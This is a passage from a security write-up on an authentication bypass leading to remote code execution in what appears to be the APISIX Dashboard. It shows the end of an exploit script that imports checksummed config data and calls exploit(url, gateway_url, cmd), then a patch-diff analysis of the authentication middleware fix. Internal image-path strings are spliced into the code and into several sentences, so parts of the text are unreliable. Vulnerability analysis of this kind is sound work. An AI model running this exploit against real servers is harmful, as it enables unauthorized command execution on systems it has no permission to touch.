    content = json_data + checksumimport_data = content[:-4]
    checksum2 = int.from_bytes(content[-4:], byteorder='big')
    if checksum2 != zlib.crc32(import_data):
        return None, "Checksum check failure,maybe file broken"

    return content, None

exploit(url, gateway_url, cmd)

And now let’s try to execute or code and check it out:

Patch Diffing

Now, Let’s take a look at the patch that used to prevent the vulnerability, We can see the patch information on githubfrom here. The changes applied to a lot of files, So we will be focusing on the important ones.


The AuthenticationMiddleware middleware from the filter package was removed and the ErrorTransformMiddleware middleware from the handler package was added as the ErrorTransformMiddleware middleware from the handler package may be more suitablefor catching errors.


Here we can see the new implementation uses gin.Context instead of droplet.Context and basically, it’s refactoring the AuthenticationMiddleware into a gin.HandlerFunc function. The changes done as the following,The BaseMiddleware is no longer used ansd replaced with gin to handle the middleware stack, Then Handle() method is replaced with a function which returns a gin.HandlerFunc to Authentication(). httpReq := ctx.Get(middleware.KeyHttpRequest) and req := httpReq.(*http.Request) replaced with c.Request. So, instead of retrieving the request object from the droplet.Context using ctx.Get(middleware.KeyHttpRequest) and httpReq.(*http.Request), the http.Request object is directly retrieved from the gin.Context object using c.Request. Also, the response object is replaced with a gin.H object which is a shorthand for creating JSON responses.Finally, the AbortWithStatusJSON() method is used to return the response with an HTTP status code.


Here this change is to add authentication to the gin application. By inserting the filter.Authentication() middleware into the middleware chain and the application will first check if the user is authenticated before allowing them to access protected routes. If the user is not authenticated, they will receive an unauthorized response. If the user is authenticated, the middleware chain will continue to execute and the request will be handled normally.

Finally, The other changes is for test cases like upstream, route and so on.


We analyzed the the vulnerability and highlited the root cause of it, We showit dynamically how the routes get initialized and Also how the wrapped ones get wrapped by the Wraps() function to apply the middleware for it, And how the issue was caused by using the gin framework directly without Wrapping it when handling the routes of theconfigurations and finally,achieving RCE from it.